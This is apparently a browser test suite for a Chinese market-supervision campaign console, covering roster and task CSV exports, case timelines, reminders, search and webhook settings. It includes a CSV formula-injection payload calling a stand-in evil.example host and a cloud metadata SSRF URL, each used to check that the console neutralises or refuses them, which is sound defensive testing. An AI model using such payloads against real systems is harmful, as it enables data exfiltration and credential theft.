// The console's shared tools in Debian's Chromium (issue #6): the CSV a roster page downloads holds exactly
// the roster's entries (a 黑榜 of two filed cases), and the case page shows its timeline, its holders and the
// Temporal link; a coordinator's 催办 reaches the station officer's notification bell, and reading it lowers
// the badge; the coordinator exports selected tasks as CSV (a formula-like name neutralised); the app-bar
// search finds an operator by the start of its 统一社会信用代码; a coordinator sets up and removes a
// jurisdiction's webhook (an inward URL is refused with its reason on the field).
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { parse } from 'csv-parse/sync';
import { ARTIFACTS, openConsole, type Console } from './helpers-browser.js';
import { startHarness, uniqueYear, waitFor, type Harness } from './helpers.js';
import { startApi, TEST_TEMPORAL_UI, type Api } from './api-helpers.js';
import { calendarOpenAt } from './helpers-campaign.js';
import { UI_DIR } from '../api/server.js';

const enc = encodeURIComponent;
const q = (filter: object) => `filter=${enc(JSON.stringify(filter))}`;
let h: Harness;
let api: Api;
let ui: Console;
const signIn = (username: string) => ui.signIn(username);
const tokens: Record<string, string> = {};

const as = (user: string) => ({ token: tokens[user]! });
const post = (user: string, p: string, body?: unknown) => api.call('POST', p, { ...as(user), body });
const get = (user: string, p: string) => api.call('GET', p, as(user));

/** Operators of the 雉城 station (officer.zhicheng's), in a stable order. */
const zhichengOperators = () => h.db.operator.findMany({ where: { jurisdictionId: '330522001', id: { startsWith: 'op-cx-' } }, orderBy: { id: 'asc' } });

/** A Changxing campaign of coord.changxing with `openKey` open now for ten minutes. */
async function launch(openKey: string, operatorIds: string[]): Promise<string> {
  const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', stages: calendarOpenAt(openKey, 600_000), reminderLeadHours: 0, operatorIds });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  return r.body.id as string;
}

/** Reads a download of the page as text, checking for the UTF-8 BOM Excel needs. */
async function downloadedCsv(page: Page, click: () => Promise<void>): Promise<{ name: string; rows: string[][] }> {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  const file = await download.path();
  const bytes = readFileSync(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows: string[][] = parse(bytes.subarray(3).toString('utf8'), { relax_column_count: false });
  return { name: download.suggestedFilename(), rows };
}

/** The number on the app bar's badge (empty when there is nothing unread). */
const badge = async (page: Page) => Number((await page.textContent('[data-testid="notification-unread"]'))?.trim() || 0);

beforeAll(async () => {
  h = await startHarness();
  api = await startApi(h, UI_DIR);
  for (const u of ['coord.changxing', 'officer.zhicheng', 'leader.changxing']) tokens[u] = await api.login(u);
  ui = await openConsole(api.url);
});
afterAll(async () => {
  await ui?.close();
  await api?.close();
  await h?.stop();
});

describe('console tools', () => {
  it('downloads a 黑榜 as the CSV of its entries, and shows a filed case’s timeline', async () => {
    const [a, b] = await zhichengOperators();
    // 红黑榜 are published once the award is final or while 总结提升 is open (the programme's rule): 集中治理
    // is open now for 6 s, 评价公示 a second after it, then 总结提升 for ten minutes. An inspection done
    // after its stage closed still counts (late).
    const t0 = Date.now();
    const at = (ms: number) => new Date(t0 + ms).toISOString();
    const calendar = [['mobilization', -5000, -4000], ['self_check', -3000, -2000], ['rectification', -500, 6000], ['evaluation', 7000, 8000], ['summary', 9000, 600_000]] as const;
    const launched = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', stages: calendar.map(([key, s, d]) => ({ key, startsAt: at(s), dueAt: at(d) })), reminderLeadHours: 0, operatorIds: [a!.id, b!.id] });
    expect(launched.status, JSON.stringify(launched.body)).toBe(201);
    const campaignId = launched.body.id as string;
    const cases = [`${campaignId}:${a!.id}`, `${campaignId}:${b!.id}`];

    // Two serious findings (四、（三）: 过期食品) file both cases: they make the black list.
    const inspections = await waitFor(async () => {
      const t = await h.db.task.findMany({ where: { campaignId, type: 'inspection', status: 'open' }, orderBy: { caseId: 'asc' } });
      return t.length === 2 && t;
    }, 'the two inspection tasks');
    for (const t of inspections) {
      const r = await post('officer.zhicheng', `/tasks/${enc(t.id)}/complete`, { method: 'sampling', areas: [{ key: 'quality', finding: 'serious', description: '抽检发现过期食品' }], violation: 'expired_food' });
      expect(r.status, JSON.stringify(r.body)).toBe(200);
    }
    await waitFor(async () => (await h.db.case.count({ where: { id: { in: cases }, excludedKind: 'filed' } })) === 2, 'both cases filed');
    await waitFor(() => h.db.stage.findFirst({ where: { campaignId, key: 'summary', status: 'open' } }), 'the 总结提升 stage open');
    const published = await post('coord.changxing', `/campaigns/${enc(campaignId)}/rosters`, { kind: 'black' });
    expect(published.status, JSON.stringify(published.body)).toBe(201);
    const roster = (await get('leader.changxing', `/rosters/${enc(published.body.id)}`)).body;
    expect(roster.entries).toHaveLength(2);

    const page = await signIn('coord.changxing');
    await page.goto(`${api.url}/#/rosters/${enc(roster.id)}/show`);
    await page.waitForSelector('[data-testid="roster-entries"]');
    const csv = await downloadedCsv(page, () => page.click('[data-testid="roster-csv"]'));
    expect(csv.name).toBe(`${roster.id.replaceAll(':', '_')}.csv`); // Chromium keeps no ':' in file names
    expect(csv.rows[0]).toEqual(['序号', '经营主体', '统一社会信用代码', '辖区', '赛道', '总分', '依据/说明', '日期']);
    type Entry = { operatorName: string; uscc: string; jurisdictionName: string; track: string | null; totalScore: number | null; ground?: string; groundName?: string; since?: string };
    const expected = (roster.entries as Entry[]).map((e, i) => [i + 1, e.operatorName, e.uscc, e.jurisdictionName, e.track ?? '', e.totalScore ?? '', e.groundName ?? e.ground ?? '', e.since ?? ''].map(String));
    expect(csv.rows.slice(1)).toEqual(expected);
    expect(csv.rows.slice(1).map((r) => r[6])).toEqual(['立案查处：过期食品', '立案查处：过期食品']);
    await page.screenshot({ path: `${ARTIFACTS}/console-roster-csv.png`, fullPage: true });

    // The case page: its history oldest first with the filing in words, and its workflow in Temporal.
    const timeline = (await get('leader.changxing', `/cases/${enc(cases[0]!)}/timeline`)).body;
    await page.goto(`${api.url}/#/cases/${enc(cases[0]!)}/show`);
    await page.waitForSelector('[data-testid="case-timeline"] [data-testid="timeline-entry"]');
    const actions = await page.locator('[data-testid="timeline-entry"]').evaluateAll((els) => els.map((e) => e.getAttribute('data-action')));
    expect(actions).toEqual(timeline.entries.map((e: { action: string }) => e.action));
    expect(actions).toContain('case.enrolled');
    const text = await page.textContent('[data-testid="case-timeline"]');
    expect(text).toContain('纳入专项行动');
    expect(text).toContain('完成任务 · 检查');
    expect(text).toContain('立案查处');
    expect(await page.textContent('[data-testid="case-holders"]')).toContain('当前环节');
    const link = page.locator('[data-testid="case-workflow-link"]');
    expect(await link.getAttribute('href')).toBe(`${TEST_TEMPORAL_UI}/namespaces/default/workflows/${enc(timeline.workflowId)}`);
    expect(await link.getAttribute('target')).toBe('_blank');
    await page.screenshot({ path: `${ARTIFACTS}/console-case-timeline.png`, fullPage: true });
    await page.close();
    await h.env.client.workflow.getHandle(`campaign-${campaignId}`).terminate('test done');
  });

  it('a 催办 reaches the station officer’s bell; opening it marks it read and lowers the badge', async () => {
    const [op] = await zhichengOperators();
    const campaignId = await launch('self_check', [op!.id]);
    const task = await waitFor(() => h.db.task.findFirst({ where: { campaignId, type: 'self_check', status: 'open' } }), 'the self-check task');
    expect(task.jurisdictionId).toBe('330522001');

    // One reminder per open task per day.
    expect((await post('coord.changxing', '/tasks/remind', { taskIds: [task.id] })).body).toEqual({ reminded: 1, alreadyToday: 0 });
    expect((await post('coord.changxing', '/tasks/remind', { taskIds: [task.id] })).body).toEqual({ reminded: 0, alreadyToday: 1 });
    const reminder = (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find((n: { taskId: string }) => n.taskId === task.id);
    expect(reminder).toMatchObject({ read: false, kind: 'reminder' });

    const page = await signIn('officer.zhicheng');
    await page.waitForSelector('[data-testid="notification-bell"]');
    await page.waitForFunction(() => Number(document.querySelector('[data-testid="notification-unread"]')?.textContent?.trim() || 0) >= 1);
    const before = await badge(page);
    expect(before).toBeGreaterThanOrEqual(1);
    await page.click('[data-testid="notification-bell"]');
    const item = page.locator('[data-testid="notification-item"]', { hasText: `催办：${task.title}` }).first();
    await item.waitFor();
    expect(await item.getAttribute('data-read')).toBe('false');
    await page.screenshot({ path: `${ARTIFACTS}/console-notifications.png`, fullPage: true });
    await item.click();
    await page.waitForURL((u) => u.hash === `#/tasks/${enc(task.id)}/show`);
    const read = await waitFor(async () => (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find((n: { id: string; read: boolean }) => n.id === reminder.id && n.read), 'the reminder read');
    expect(read.read).toBe(true);
    // The badge went down, or (other test files notify this officer at the same time) shows exactly
    // what the server now counts as unread.
    await waitFor(async () => {
      const now = await badge(page);
      return now < before || now === (await get('officer.zhicheng', '/notifications/unread-count')).body.unread;
    }, 'the badge to follow the read', 20_000);
    await page.screenshot({ path: `${ARTIFACTS}/console-notification-opened.png`, fullPage: true });
    // The list page: the reminder is there, read now.
    await page.goto(`${api.url}/#/notifications?${q({ kind: 'reminder', campaignId })}`);
    const row = page.locator('tbody tr.RaDatagrid-row', { hasText: `催办：${task.title}` });
    await row.waitFor();
    expect(await row.locator('[data-testid="notification-unread-chip"]').count()).toBe(0);
    await page.screenshot({ path: `${ARTIFACTS}/console-notification-list.png`, fullPage: true });
    await page.close();

    // The coordinator exports the campaign's tasks (select all, 导出所选): CSV with a BOM, Chinese headers.
    // An operator name a spreadsheet would run as a formula (OWASP CSV injection) is written as text, with a
    // leading '. (Set on the task's copy of the name: the seeded operator is shared with other suites.)
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
    await h.db.task.update({ where: { id: task.id }, data: { details: { ...(task.details as object), operatorName: formula, operatorUscc: '+8613800000000' } } });
    const coord = await signIn('coord.changxing');
    await coord.goto(`${api.url}/#/tasks?${q({ campaignId, status: 'open' })}`);
    await coord.waitForSelector('tbody tr.RaDatagrid-row');
    await coord.locator('thead input[type="checkbox"]').check();
    const csv = await downloadedCsv(coord, () => coord.click('[data-testid="tasks-export"]'));
    expect(csv.name).toMatch(/^任务-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(csv.rows[0]!.slice(0, 4)).toEqual(['编号', '任务名称', '任务类型', '阶段']);
    expect(csv.rows.slice(1).map((r) => [r[0], r[1], r[2]])).toEqual([[task.id, task.title, '自查自纠']]);
    expect(csv.rows[1]!.slice(4, 6)).toEqual([`'${formula}`, "'+8613800000000"]);
    await h.db.task.update({ where: { id: task.id }, data: { details: task.details as object } });

    // 指派 the selection to the station officer: the dialog lists who may take it; the list shows the name.
    await coord.click('[data-testid="tasks-assign"]');
    await coord.click('[data-testid="assignee-officer.zhicheng"]');
    await coord.screenshot({ path: `${ARTIFACTS}/console-assign.png`, fullPage: true });
    await coord.click('[data-testid="assign-confirm"]');
    await waitFor(async () => (await h.db.task.findUniqueOrThrow({ where: { id: task.id } })).claimedById === 'u-officer-zhicheng', 'the task assigned');
    const officerName = (await h.db.user.findUniqueOrThrow({ where: { id: 'u-officer-zhicheng' } })).displayName;
    await coord.waitForSelector(`tbody tr.RaDatagrid-row td.column-claimedByName:has-text("${officerName}")`);
    expect((await get('officer.zhicheng', `/notifications?${q({ kind: 'assignment', campaignId })}`)).body.map((n: { taskId: string }) => n.taskId)).toContain(task.id);
    await coord.close();
    await h.env.client.workflow.getHandle(`campaign-${campaignId}`).terminate('test done');
  });

  it('finds an operator by the start of its 统一社会信用代码 from the app bar and opens its page', async () => {
    const operators = await h.db.operator.findMany({ where: { jurisdictionId: { startsWith: '330522' } }, orderBy: { id: 'asc' } });
    const target = operators.find((o) => o.id === 'op-cx-013') ?? operators[0]!;
    // The shortest prefix (from 8 characters) that no other operator of the county shares.
    let prefix = target.uscc.slice(0, 8);
    while (operators.some((o) => o.id !== target.id && o.uscc.startsWith(prefix))) prefix = target.uscc.slice(0, prefix.length + 1);

    const page = await signIn('coord.changxing');
    await page.fill('[data-testid="app-search"]', prefix.toLowerCase());
    const hit = page.locator(`[data-testid="search-result"][data-path="/operators/${enc(target.id)}/show"]`);
    await hit.waitFor();
    expect(await hit.textContent()).toContain(target.name);
    await page.screenshot({ path: `${ARTIFACTS}/console-search.png`, fullPage: true });
    await hit.click();
    await page.waitForURL((u) => u.hash === `#/operators/${enc(target.id)}/show`);
    await page.waitForFunction((uscc) => document.body.textContent?.includes(uscc), target.uscc);
    await page.close();
  });

  it('a coordinator sets up a station’s webhook on its page and removes it', async () => {
    const page = await signIn('coord.changxing');
    // 泗安所: not 煤山所 (330522006), whose webhook the fuzz and access-matrix suites expect untouched meanwhile.
    const jid = '330522005';
    await page.goto(`${api.url}/#/jurisdictions/${jid}/show`);
    await page.waitForSelector('[data-testid="webhook-card"] [data-testid="webhook-form"]');
    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'https://hooks.example.invalid/campaign');
    await page.fill('[data-testid="webhook-form"] input[name="secret"]', 'short');
    await page.click('[data-testid="webhook-save"]');
    expect(await page.textContent('[data-testid="webhook-form"]')).toContain('密钥至少 16 个字符');
    await page.fill('[data-testid="webhook-form"] input[name="secret"]', 'a-secret-of-24-characters');
    // An address inside the network (here the cloud metadata service) is refused by the API: the reason shows on the field.
    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'http://169.254.169.254/latest/meta-data/');
    await page.click('[data-testid="webhook-save"]');
    await page.waitForSelector('[data-testid="webhook-form"] :text("云主机元数据服务")');
    expect((await get('coord.changxing', `/jurisdictions/${jid}/webhook`)).status).toBe(404);
    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'https://hooks.example.invalid/campaign');
    await page.click('[data-testid="webhook-save"]');
    await page.waitForSelector('[data-testid="webhook-state"]:has-text("已启用")');
    const saved = await get('coord.changxing', `/jurisdictions/${jid}/webhook`);
    expect(saved.body).toMatchObject({ jurisdictionId: jid, url: 'https://hooks.example.invalid/campaign', enabled: true, secretSet: true });
    await page.screenshot({ path: `${ARTIFACTS}/console-webhook.png`, fullPage: true });

    await page.click('[data-testid="webhook-delete"]');
    await page.click('.MuiDialog-root button.ra-confirm');
    await page.waitForSelector('[data-testid="webhook-state"]:has-text("未配置")');
    expect((await get('coord.changxing', `/jurisdictions/${jid}/webhook`)).status).toBe(404);
    await page.close();
  });
});
